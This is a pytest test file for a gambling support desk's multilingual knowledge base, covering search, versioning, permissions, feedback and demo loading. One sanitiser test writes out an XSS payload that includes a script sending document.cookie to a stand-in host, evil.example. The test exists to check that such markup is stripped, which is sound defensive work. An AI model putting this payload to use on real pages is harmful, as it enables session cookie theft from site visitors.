"""The knowledge base on real persistence (SQLite with FTS5, or PostgreSQL full text): search
in three languages, audiences, versions and the stale-version conflict, sanitising, kb:
links, feedback, permissions, bad input, and the demo loader."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

from playerdesk.db.models import (
    AuditEntry,
    KbArticle,
    KbArticleVersion,
    KbCategory,
    KbFeedback,
    KbSearchDocument,
)
from playerdesk.demo_kb import DEMO_KB_DIR, article_files, seed_knowledge_base
from playerdesk.domain.enums import AgentRole
from playerdesk.domain.errors import Conflict, NotFound, PermissionDenied, ValidationFailed
from playerdesk.domain.kb import ArticleStatus
from playerdesk.domain.kb_markdown import linked_keys
from playerdesk.domain.permissions import Actor
from playerdesk.runtime import Runtime
from playerdesk.services import kb
from tests.conftest import AgentFactory, QueryCounter

FIXTURE_DIR = Path(__file__).parent / "kb_fixture"
LANGUAGES = ["en", "pl", "sv"]

CATEGORIES: dict[str, dict[str, tuple[str, str]]] = {
    "withdrawals": {
        "en": ("Withdrawals", "Getting your money out."),
        "pl": ("Wypłaty", "Jak wypłacić pieniądze."),
        "sv": ("Uttag", "Så tar du ut pengar."),
    },
    "bonuses": {
        "en": ("Bonuses", "Promotions and wagering."),
        "pl": ("Bonusy", "Promocje i obrót."),
        "sv": ("Bonusar", "Kampanjer och omsättning."),
    },
    "responsible-gambling": {
        "en": ("Responsible gambling", "Limits and breaks."),
        "pl": ("Odpowiedzialna gra", "Limity i przerwy."),
        "sv": ("Ansvarsfullt spel", "Gränser och pauser."),
    },
}


async def install_categories(runtime: Runtime) -> None:
    for position, (key, texts) in enumerate(CATEGORIES.items(), start=1):
        async with runtime.uow() as uow:
            await kb.create_category(
                uow,
                actor=Actor.system(),
                fields=kb.CategoryFields(
                    key=key,
                    position=position,
                    texts={
                        language: kb.CategoryText(name=name, description=description)
                        for language, (name, description) in texts.items()
                    },
                ),
                languages=LANGUAGES,
            )


def fields(**overrides: Any) -> kb.ArticleFields:
    values: dict[str, Any] = {
        "category_key": "withdrawals",
        "language": "en",
        "key": "withdrawals-times",
        "slug": "",
        "title": "How long does a withdrawal take?",
        "summary": "Review within 24 hours, then the payment method's own time.",
        "body_markdown": "We review every withdrawal within **24 hours**.",
        "status": ArticleStatus.PUBLISHED,
    }
    values.update(overrides)
    return kb.ArticleFields(**values)


async def create(runtime: Runtime, actor: Actor | None = None, **overrides: Any) -> kb.ArticleView:
    async with runtime.uow() as uow:
        return await kb.create_article(
            uow, actor=actor or Actor.system(), fields=fields(**overrides), languages=LANGUAGES
        )


async def search(runtime: Runtime, query: str, language: str) -> list[kb.ArticleHit]:
    async with runtime.read_uow() as uow:
        return await kb.search_articles(uow, query=query, language=language)


async def titles(runtime: Runtime, query: str, language: str) -> list[str]:
    return [hit.title for hit in await search(runtime, query, language)]


@pytest.fixture
async def library(runtime: Runtime) -> dict[str, kb.ArticleView]:
    """A few articles in each language, one of them internal and one a draft."""
    await install_categories(runtime)
    made = {
        "en-times": await create(runtime),
        "en-pending": await create(
            runtime,
            key="withdrawals-pending",
            title="Why is my withdrawal still pending?",
            summary="Pending means we are reviewing it.",
            body_markdown="A pending withdrawal is under review. Documents can delay it.",
        ),
        "en-bonus": await create(
            runtime,
            category_key="bonuses",
            key="bonuses-wagering",
            title="How does wagering work?",
            summary="A bonus must be played through before you withdraw.",
            body_markdown=(
                "Wagering means playing the bonus amount a number of times. "
                "A withdrawal while a bonus is active cancels the bonus."
            ),
        ),
        "en-internal": await create(
            runtime,
            key="internal-hold",
            title="Compliance hold: what to tell the player",
            summary="Wording for agents while compliance holds a withdrawal.",
            body_markdown="Never share the compliance team's reasons for a withdrawal hold.",
            status=ArticleStatus.INTERNAL,
        ),
        "en-draft": await create(
            runtime,
            key="withdrawals-crypto",
            title="Crypto withdrawals",
            summary="Coming soon.",
            body_markdown="Withdrawals in crypto are being prepared.",
            status=ArticleStatus.DRAFT,
        ),
        "pl-times": await create(
            runtime,
            language="pl",
            title="Ile trwa wypłata?",
            summary="Sprawdzamy ją w ciągu 24 godzin.",
            body_markdown="Każdą wypłatę sprawdzamy w ciągu **24 godzin**. Potem liczy się "
            "czas operatora płatności.",
        ),
        "pl-self-exclusion": await create(
            runtime,
            language="pl",
            category_key="responsible-gambling",
            key="rg-self-exclusion",
            title="Samowykluczenie",
            summary="Zamknięcie konta na 6 miesięcy lub dłużej.",
            body_markdown="Samowykluczenie zamyka konto. Zobacz też rejestr zastrzeżeń.",
        ),
        "sv-times": await create(
            runtime,
            language="sv",
            title="Hur lång tid tar ett uttag?",
            summary="Vi granskar uttaget inom 24 timmar.",
            body_markdown="Vi granskar varje uttag inom **24 timmar**. Sedan gäller "
            "betalmetodens egen tid.",
        ),
        "sv-spelpaus": await create(
            runtime,
            language="sv",
            category_key="responsible-gambling",
            key="rg-self-exclusion",
            title="Självavstängning och Spelpaus.se",
            summary="Stäng av dig hos alla svenska spelbolag på en gång.",
            body_markdown="Med Spelpaus.se stänger du av dig från allt spel hos licensierade "
            "bolag i Sverige.",
        ),
    }
    return made


# Search --------------------------------------------------------------------------------------


async def test_english_search_by_words_prefixes_and_inflections(
    runtime: Runtime, library: dict[str, kb.ArticleView]
) -> None:
    top = await search(runtime, "How long does a withdrawal take?", "en")
    assert top[0].id == library["en-times"].id
    assert top[0].category_key == "withdrawals" and top[0].status == "published"
    assert "24 hours" in top[0].excerpt and "**" not in top[0].excerpt
    assert (await titles(runtime, "withdrawals pending", "en"))[0] == (
        "Why is my withdrawal still pending?"
    )
    assert "How does wagering work?" in await titles(runtime, "wager", "en")
    assert (await titles(runtime, "WITHDR", "en"))[:2] == [
        # The word in both titles; then ordered by title.
        "How long does a withdrawal take?",
        "Why is my withdrawal still pending?",
    ]
    assert await search(runtime, "roulette", "en") == []
    assert await search(runtime, "  ", "en") == []


async def test_polish_search_ignores_diacritics_and_inflection(
    runtime: Runtime, library: dict[str, kb.ArticleView]
) -> None:
    for query in ("wypłata", "wypłaty", "wypłatę", "WYPLATA", "wypłacie", "wypł"):
        hits = await search(runtime, query, "pl")
        assert [hit.id for hit in hits] == [library["pl-times"].id], query
    hit = (await search(runtime, "wyplate", "pl"))[0]
    assert "wypłatę" in hit.excerpt  # the excerpt keeps the original spelling
    assert [hit.title for hit in await search(runtime, "samowykluczeniu", "pl")] == [
        "Samowykluczenie"
    ]
    # Only Polish articles answer a Polish search.
    assert all(hit.language == "pl" for hit in await search(runtime, "24", "pl"))


async def test_swedish_search_ignores_diacritics_and_inflection(
    runtime: Runtime, library: dict[str, kb.ArticleView]
) -> None:
    for query in ("uttag", "uttaget", "UTTAGET", "Uttagen", "utt"):
        hits = await search(runtime, query, "sv")
        assert [hit.id for hit in hits] == [library["sv-times"].id], query
    assert (await titles(runtime, "spelpaus", "sv")) == ["Självavstängning och Spelpaus.se"]
    assert (await titles(runtime, "sjalvavstangning", "sv")) == ["Självavstängning och Spelpaus.se"]
    assert (await titles(runtime, "granskar", "sv"))[0] == "Hur lång tid tar ett uttag?"


async def test_title_ranks_above_body(runtime: Runtime) -> None:
    await install_categories(runtime)
    in_body = await create(
        runtime,
        category_key="bonuses",
        key="bonuses-terms",
        title="Terms of promotions",
        summary="",
        body_markdown="Free spins free spins free spins, and more free spins every week.",
    )
    in_title = await create(
        runtime,
        category_key="bonuses",
        key="bonuses-free-spins",
        title="Free spins",
        summary="",
        body_markdown="How they work.",
    )
    hits = await search(runtime, "free spins", "en")
    assert [hit.id for hit in hits] == [in_title.id, in_body.id]
    assert hits[0].score > hits[1].score


async def test_internal_and_draft_articles_never_reach_the_public(
    runtime: Runtime, library: dict[str, kb.ArticleView], make_agent: AgentFactory
) -> None:
    assert await search(runtime, "compliance", "en") == []
    assert await search(runtime, "crypto", "en") == []
    async with runtime.read_uow() as uow:
        with pytest.raises(NotFound):
            await kb.get_published_article(uow, language="en", slug=library["en-internal"].slug)
        page = await kb.list_category_articles(uow, language="en", category_key="withdrawals")
        categories = await kb.list_categories(uow, language="en")
    assert {article.key for article in page.articles} == {
        "withdrawals-times",
        "withdrawals-pending",
    }
    assert {category.key: category.article_count for category in categories} == {
        "withdrawals": 2,
        "bonuses": 1,
        "responsible-gambling": 0,
    }
    assert categories[0].key == "withdrawals"

    agent = await make_agent(AgentRole.AGENT)
    async with runtime.read_uow() as uow:
        hits = await kb.search_articles_for_agent(
            uow, actor=agent.actor, query="compliance withdrawal hold", language="en"
        )
        assert hits[0].id == library["en-internal"].id and hits[0].status == "internal"
        crypto = await kb.search_articles_for_agent(
            uow, actor=agent.actor, query="crypto", language="en"
        )
        assert crypto == []  # drafts are for editors only
        internal = await kb.get_article_for_agent(
            uow, actor=agent.actor, article_id=library["en-internal"].id
        )
        assert internal.status == "internal"
        with pytest.raises(NotFound):
            await kb.get_article_for_agent(
                uow, actor=agent.actor, article_id=library["en-draft"].id
            )
    supervisor = await make_agent(AgentRole.SUPERVISOR)
    async with runtime.read_uow() as uow:
        draft = await kb.get_article_for_agent(
            uow, actor=supervisor.actor, article_id=library["en-draft"].id
        )
    assert draft.status == "draft"


async def test_the_index_follows_every_write(
    runtime: Runtime, library: dict[str, kb.ArticleView]
) -> None:
    article = library["en-times"]
    async with runtime.uow() as uow:
        await kb.update_article(
            uow,
            actor=Actor.system(),
            article_id=article.id,
            fields=fields(title="Payout times", body_markdown="Payouts take a day."),
            expected_version=1,
            languages=LANGUAGES,
        )
    assert (await titles(runtime, "payout", "en")) == ["Payout times"]
    assert article.id not in [hit.id for hit in await search(runtime, "long", "en")]
    async with runtime.uow() as uow:
        await kb.set_article_status(
            uow, actor=Actor.system(), article_id=article.id, status="archived"
        )
    assert await search(runtime, "payout", "en") == []
    async with runtime.uow() as uow:
        await kb.set_article_status(
            uow, actor=Actor.system(), article_id=article.id, status=ArticleStatus.PUBLISHED
        )
    assert (await titles(runtime, "payouts", "en")) == ["Payout times"]
    async with runtime.read_uow() as uow:
        documents = await uow.session.scalar(select(func.count()).select_from(KbSearchDocument))
    assert documents == len(library)


# Articles: views, translations, versions -------------------------------------------------------


async def test_translations_are_linked_by_key(
    runtime: Runtime, library: dict[str, kb.ArticleView]
) -> None:
    async with runtime.read_uow() as uow:
        english = await kb.get_published_article(
            uow, language="en", slug="how-long-does-a-withdrawal-take"
        )
        polish = await kb.get_published_article(uow, language="pl", slug="ile-trwa-wyplata")
    assert english.translations == {"pl": "ile-trwa-wyplata", "sv": "hur-lang-tid-tar-ett-uttag"}
    assert english.translation_ids == {
        "pl": library["pl-times"].id,
        "sv": library["sv-times"].id,
    }
    assert polish.translations["en"] == "how-long-does-a-withdrawal-take"
    assert polish.category_name == "Wypłaty"
    assert [item.key for item in english.related] == ["withdrawals-pending"]

    # An unpublished translation is not offered to the public.
    async with runtime.uow() as uow:
        await kb.set_article_status(
            uow, actor=Actor.system(), article_id=library["sv-times"].id, status="draft"
        )
    async with runtime.read_uow() as uow:
        english = await kb.get_published_article(
            uow, language="en", slug="how-long-does-a-withdrawal-take"
        )
    assert english.translations == {"pl": "ile-trwa-wyplata"}


async def test_every_save_is_a_version_and_a_stale_save_is_refused(
    runtime: Runtime, library: dict[str, kb.ArticleView], make_agent: AgentFactory
) -> None:
    editor = await make_agent(AgentRole.SUPERVISOR)
    other = await make_agent(AgentRole.ADMIN)
    article = library["en-times"]
    async with runtime.uow() as uow:
        second = await kb.update_article(
            uow,
            actor=editor.actor,
            article_id=article.id,
            fields=fields(body_markdown="We review every withdrawal within **12 hours**."),
            expected_version=1,
            languages=LANGUAGES,
        )
    assert second.version == 2 and "12 hours" in second.body_html
    assert second.author_id is None  # the creator (the system) stays the author

    # The admin also started from version 1: their save is refused, nothing changes.
    async with runtime.uow() as uow:
        with pytest.raises(Conflict) as refused:
            await kb.update_article(
                uow,
                actor=other.actor,
                article_id=article.id,
                fields=fields(title="Overwritten"),
                expected_version=1,
                languages=LANGUAGES,
            )
    assert refused.value.field == "version"

    async with runtime.uow() as uow:
        await kb.set_article_status(
            uow, actor=other.actor, article_id=article.id, status="internal"
        )
    async with runtime.read_uow() as uow:
        versions = await kb.article_versions(uow, actor=editor.actor, article_id=article.id)
        stored = await uow.session.get(KbArticle, article.id)
    assert stored is not None and stored.title == "How long does a withdrawal take?"
    assert [version.version for version in versions] == [3, 2, 1]
    assert [version.status for version in versions] == ["internal", "published", "published"]
    assert "12 hours" in versions[1].body_markdown and "24 hours" in versions[2].body_markdown
    assert versions[0].author_id == other.id
    assert versions[1].author_id == editor.id and versions[1].author_name is not None
    assert stored.published_at == article.published_at  # first publication is kept


async def test_markdown_is_sanitised_once_at_save(
    runtime: Runtime, library: dict[str, kb.ArticleView]
) -> None:
    attack = (
        "Hello <script>document.location='https://evil.example/'+document.cookie</script>\n\n"
        '<img src=x onerror="alert(1)"> [click](javascript:alert(1)) '
        '<a href="javascript:alert(2)" onclick="alert(3)">link</a>\n\n'
        "<iframe src=https://evil.example></iframe><style>body{display:none}</style>"
    )
    async with runtime.uow() as uow:
        saved = await kb.update_article(
            uow,
            actor=Actor.system(),
            article_id=library["en-times"].id,
            fields=fields(body_markdown=attack),
            expected_version=1,
            languages=LANGUAGES,
        )
    async with runtime.read_uow() as uow:
        public = await kb.get_published_article(uow, language="en", slug=saved.slug)
        stored = await uow.session.get(KbArticle, saved.id)
        document = await uow.session.get(KbSearchDocument, saved.id)
    assert stored is not None and document is not None
    for html in (saved.body_html, public.body_html, stored.body_html):
        lowered = html.lower()
        assert "<script" not in lowered and "<iframe" not in lowered and "<style" not in lowered
        assert "onerror" not in lowered and "onclick" not in lowered
        assert 'href="javascript' not in lowered
    assert stored.body_markdown.startswith("Hello <script>")  # the source is kept as written
    assert "document.cookie" not in document.body_text  # script content is not searchable


async def test_kb_links_follow_their_targets(runtime: Runtime) -> None:
    await install_categories(runtime)
    source = await create(
        runtime,
        body_markdown="See [why it is pending](kb:withdrawals-pending) and "
        "[the hold](kb:internal-hold).",
    )
    # Neither target exists yet: the links are plain text.
    assert "<a " not in source.body_html and "why it is pending" in source.body_html
    pending = await create(
        runtime, key="withdrawals-pending", title="Why is my withdrawal pending?"
    )
    await create(runtime, key="internal-hold", title="Hold", status=ArticleStatus.INTERNAL)
    async with runtime.read_uow() as uow:
        after = await kb.get_published_article(uow, language="en", slug=source.slug)
    # A published article links to the published one, never to the internal one.
    assert '<a href="/help/en/withdrawals/why-is-my-withdrawal-pending"' in after.body_html
    assert after.body_html.count("<a ") == 1
    assert after.related[0].key == "withdrawals-pending"

    # The target moves: the link follows, without a new version of the source.
    async with runtime.uow() as uow:
        await kb.update_article(
            uow,
            actor=Actor.system(),
            article_id=pending.id,
            fields=fields(
                key="withdrawals-pending",
                slug="pending",
                title="Why is my withdrawal pending?",
                category_key="bonuses",
            ),
            expected_version=1,
            languages=LANGUAGES,
        )
    async with runtime.read_uow() as uow:
        moved = await kb.get_published_article(uow, language="en", slug=source.slug)
    assert '<a href="/help/en/bonuses/pending"' in moved.body_html
    assert moved.version == 1


# Feedback --------------------------------------------------------------------------------------


async def test_feedback_is_counted_and_kept(
    runtime: Runtime, library: dict[str, kb.ArticleView], make_agent: AgentFactory
) -> None:
    article = library["pl-times"]
    for helpful, comment in ((True, None), (True, "  Dzięki,   pomogło!  "), (False, "Za krótko")):
        async with runtime.uow() as uow:
            await kb.record_feedback(uow, article_id=article.id, helpful=helpful, comment=comment)
    async with runtime.uow() as uow:
        with pytest.raises(NotFound):
            await kb.record_feedback(uow, article_id=library["en-internal"].id, helpful=True)
    async with runtime.uow() as uow:
        with pytest.raises(NotFound):
            await kb.record_feedback(uow, article_id=999_999, helpful=True)
    async with runtime.uow() as uow:
        with pytest.raises(ValidationFailed) as too_long:
            await kb.record_feedback(uow, article_id=article.id, helpful=False, comment="x" * 1001)
    assert too_long.value.field == "comment"

    supervisor = await make_agent(AgentRole.SUPERVISOR)
    async with runtime.read_uow() as uow:
        view = await kb.get_article_for_agent(uow, actor=supervisor.actor, article_id=article.id)
        feedback = await kb.list_feedback(uow, actor=supervisor.actor, article_id=article.id)
        total = await uow.session.scalar(select(func.count()).select_from(KbFeedback))
    assert (view.helpful_count, view.not_helpful_count) == (2, 1)
    assert [(row.helpful, row.comment, row.language) for row in feedback] == [
        (False, "Za krótko", "pl"),
        (True, "Dzięki, pomogło!", "pl"),
        (True, None, "pl"),
    ]
    assert total == 3


# Permissions and bad input ---------------------------------------------------------------------


async def test_agents_read_supervisors_edit(
    runtime: Runtime, library: dict[str, kb.ArticleView], make_agent: AgentFactory
) -> None:
    agent = await make_agent(AgentRole.AGENT)
    senior = await make_agent(AgentRole.SENIOR)
    supervisor = await make_agent(AgentRole.SUPERVISOR)
    article = library["en-times"]
    for reader in (agent, senior):
        async with runtime.uow() as uow:
            with pytest.raises(PermissionDenied):
                await kb.create_article(
                    uow, actor=reader.actor, fields=fields(key="new"), languages=LANGUAGES
                )
            with pytest.raises(PermissionDenied):
                await kb.update_article(
                    uow,
                    actor=reader.actor,
                    article_id=article.id,
                    fields=fields(),
                    expected_version=1,
                    languages=LANGUAGES,
                )
            with pytest.raises(PermissionDenied):
                await kb.set_article_status(
                    uow, actor=reader.actor, article_id=article.id, status="archived"
                )
            with pytest.raises(PermissionDenied):
                await kb.list_articles(uow, actor=reader.actor)
            with pytest.raises(PermissionDenied):
                await kb.article_versions(uow, actor=reader.actor, article_id=article.id)

    made = await create(runtime, supervisor.actor, key="withdrawals-new", title="New one")
    async with runtime.uow() as uow:
        await kb.set_article_status(
            uow, actor=supervisor.actor, article_id=made.id, status="internal"
        )
    async with runtime.read_uow() as uow:
        entries = (
            await uow.session.scalars(
                select(AuditEntry)
                .where(AuditEntry.entity_type == "kb_article", AuditEntry.entity_id == str(made.id))
                .order_by(AuditEntry.id)
            )
        ).all()
        listed = await kb.list_articles(uow, actor=supervisor.actor, status="internal")
    assert [(entry.action, entry.actor_agent_id) for entry in entries] == [
        ("kb.article_created", supervisor.id),
        ("kb.article_status_changed", supervisor.id),
    ]
    assert entries[1].details["version"] == 2
    assert made.author_id == supervisor.id
    assert {item.key for item in listed} == {"withdrawals-new", "internal-hold"}


@pytest.mark.parametrize(
    ("overrides", "error", "field"),
    [
        ({"title": "   "}, ValidationFailed, "title"),
        ({"title": "x" * 201}, ValidationFailed, "title"),
        ({"summary": "x" * 501}, ValidationFailed, "summary"),
        ({"category_key": "casino-games"}, ValidationFailed, "category_key"),
        ({"language": "de"}, ValidationFailed, "language"),
        ({"body_markdown": "x" * 50_001}, ValidationFailed, "body_markdown"),
        ({"body_markdown": "  "}, ValidationFailed, "body_markdown"),
        ({"key": "Withdrawal Times"}, ValidationFailed, "key"),
        ({"slug": "ąę/"}, ValidationFailed, "slug"),
        ({"status": "hidden"}, ValidationFailed, "status"),
        ({"key": "withdrawals-times"}, Conflict, "key"),
        ({"key": "other", "slug": "how-long-does-a-withdrawal-take"}, Conflict, "slug"),
        ({"key": "other", "slug": ""}, Conflict, "slug"),  # the same title makes the same slug
    ],
)
async def test_bad_input_is_refused_naming_the_field(
    runtime: Runtime,
    library: dict[str, kb.ArticleView],
    overrides: dict[str, Any],
    error: type[Exception],
    field: str,
) -> None:
    async with runtime.uow() as uow:
        with pytest.raises(error) as refused:
            await kb.create_article(
                uow, actor=Actor.system(), fields=fields(**overrides), languages=LANGUAGES
            )
    assert getattr(refused.value, "field", None) == field
    async with runtime.read_uow() as uow:
        count = await uow.session.scalar(select(func.count()).select_from(KbArticle))
    assert count == len(library)


async def test_a_draft_may_be_empty_until_it_is_shown(runtime: Runtime) -> None:
    await install_categories(runtime)
    draft = await create(runtime, body_markdown="", status="draft", slug="later")
    assert draft.slug == "later" and draft.body_html == ""
    async with runtime.uow() as uow:
        with pytest.raises(ValidationFailed) as refused:
            await kb.set_article_status(
                uow, actor=Actor.system(), article_id=draft.id, status="published"
            )
    assert refused.value.field == "status"


async def test_categories_are_edited_with_their_texts(runtime: Runtime) -> None:
    await install_categories(runtime)
    async with runtime.uow() as uow:
        updated = await kb.update_category(
            uow,
            actor=Actor.system(),
            category_key="bonuses",
            fields=kb.CategoryFields(
                key="bonuses",
                position=9,
                texts={"en": kb.CategoryText(name="Bonuses and free spins", description="")},
            ),
            languages=LANGUAGES,
        )
    assert updated.position == 9 and set(updated.texts) == {"en"}
    async with runtime.read_uow() as uow:
        polish = await kb.list_categories(uow, language="pl")
        english = await kb.list_categories(uow, language="en")
    assert "bonuses" not in {category.key for category in polish}
    assert english[-1].name == "Bonuses and free spins"
    for key, texts, field in (
        ("bonuses", {"en": kb.CategoryText(name="")}, "name"),
        ("bonuses", {"de": kb.CategoryText(name="Boni")}, "language"),
        ("bonuses", {}, "texts"),
        ("renamed", {"en": kb.CategoryText(name="X")}, "key"),
    ):
        async with runtime.uow() as uow:
            with pytest.raises(ValidationFailed) as refused:
                await kb.update_category(
                    uow,
                    actor=Actor.system(),
                    category_key="bonuses",
                    fields=kb.CategoryFields(key=key, position=1, texts=texts),
                    languages=LANGUAGES,
                )
        assert refused.value.field == field
    async with runtime.uow() as uow:
        with pytest.raises(Conflict):
            await kb.create_category(
                uow,
                actor=Actor.system(),
                fields=kb.CategoryFields(
                    key="bonuses", position=1, texts={"en": kb.CategoryText(name="Again")}
                ),
                languages=LANGUAGES,
            )


# The demo loader -------------------------------------------------------------------------------


async def test_demo_loader_reads_a_directory_once(runtime: Runtime) -> None:
    async with runtime.uow() as uow:
        first = await seed_knowledge_base(
            uow, actor=Actor.system(), languages=LANGUAGES, directory=FIXTURE_DIR
        )
    assert (first.categories_created, first.articles_created) == (2, 7)
    async with runtime.uow() as uow:
        again = await seed_knowledge_base(
            uow, actor=Actor.system(), languages=LANGUAGES, directory=FIXTURE_DIR
        )
    assert (again.categories_created, again.articles_created, again.articles_present) == (0, 0, 7)
    async with runtime.read_uow() as uow:
        versions = await uow.session.scalar(select(func.count()).select_from(KbArticleVersion))
        times = await kb.get_published_article(
            uow, language="en", slug="how-long-does-a-withdrawal-take"
        )
        pending = await kb.list_category_articles(uow, language="pl", category_key="withdrawals")
        account = await kb.list_categories(uow, language="sv")
    assert versions == 7
    # A link to an article loaded after it is resolved all the same.
    assert '<a href="/help/en/withdrawals/why-is-my-withdrawal-pending"' in times.body_html
    assert times.translations == {"pl": "ile-trwa-wyplata", "sv": "hur-lang-tid-tar-ett-uttag"}
    assert [article.title for article in pending.articles] == [
        "Dlaczego moja wypłata oczekuje?",
        "Ile trwa wypłata?",
    ]
    assert [category.key for category in account] == ["withdrawals"]  # no Swedish name
    assert (await titles(runtime, "wypłatę", "pl"))[0] in {
        "Dlaczego moja wypłata oczekuje?",
        "Ile trwa wypłata?",
    }


async def test_demo_loader_only_loads_configured_languages(runtime: Runtime) -> None:
    async with runtime.uow() as uow:
        report = await seed_knowledge_base(
            uow, actor=Actor.system(), languages=["en"], directory=FIXTURE_DIR
        )
    assert report.articles_created == 4
    async with runtime.read_uow() as uow:
        languages = set((await uow.session.scalars(select(KbArticle.language))).all())
    assert languages == {"en"}


async def test_the_shipped_articles_all_load(runtime: Runtime) -> None:
    files = article_files(DEMO_KB_DIR, languages=LANGUAGES)
    async with runtime.uow() as uow:
        report = await seed_knowledge_base(uow, actor=Actor.system(), languages=LANGUAGES)
    assert report.categories_created == 9
    assert report.articles_created == len(files)
    async with runtime.read_uow() as uow:
        published = dict(
            (
                await uow.session.execute(
                    select(KbArticle.language, func.count())
                    .where(KbArticle.status == "published")
                    .group_by(KbArticle.language)
                )
            ).all()
        )
        unresolved = (
            await uow.session.scalars(
                select(KbArticle.key).where(KbArticle.body_html.contains("kb:"))
            )
        ).all()
    for language in LANGUAGES:
        assert published.get(language, 0) >= 25, (language, published)
    assert unresolved == []
    # Every kb: link of a published article points at a published article of its language.
    async with runtime.read_uow() as uow:
        rows = await uow.session.execute(
            select(KbArticle.key, KbArticle.language, KbArticle.slug, KbCategory.key)
            .join(KbCategory, KbCategory.id == KbArticle.category_id)
            .where(KbArticle.status == "published")
        )
        urls = {
            (key, language): kb.article_url(language=language, category_key=category, slug=slug)
            for key, language, slug, category in rows
        }
        stored_html = {
            (key, language): html
            for key, language, html in (
                await uow.session.execute(
                    select(KbArticle.key, KbArticle.language, KbArticle.body_html)
                )
            )
        }
    broken = [
        f"{article.path.relative_to(DEMO_KB_DIR)} -> kb:{key}"
        for article in files
        if article.status == "published"
        for key in sorted(linked_keys(article.body))
        if (key, article.language) not in urls
        or f'href="{urls[key, article.language]}' not in stored_html[article.key, article.language]
    ]
    assert broken == []


async def test_a_search_is_one_statement(
    runtime: Runtime, library: dict[str, kb.ArticleView], count_queries: QueryCounter
) -> None:
    async with runtime.read_uow() as uow:
        count_queries.reset()
        hits = await kb.search_articles(uow, query="wypłata 24 godziny", language="pl")
        assert count_queries.count == 1
        count_queries.reset()
        agent_hits = await kb.search_articles_for_agent(
            uow, actor=Actor.system(), query="withdrawal hold", language="en", limit=3
        )
        assert count_queries.count == 1
    assert hits[0].id == library["pl-times"].id
    assert len(agent_hits) == 3
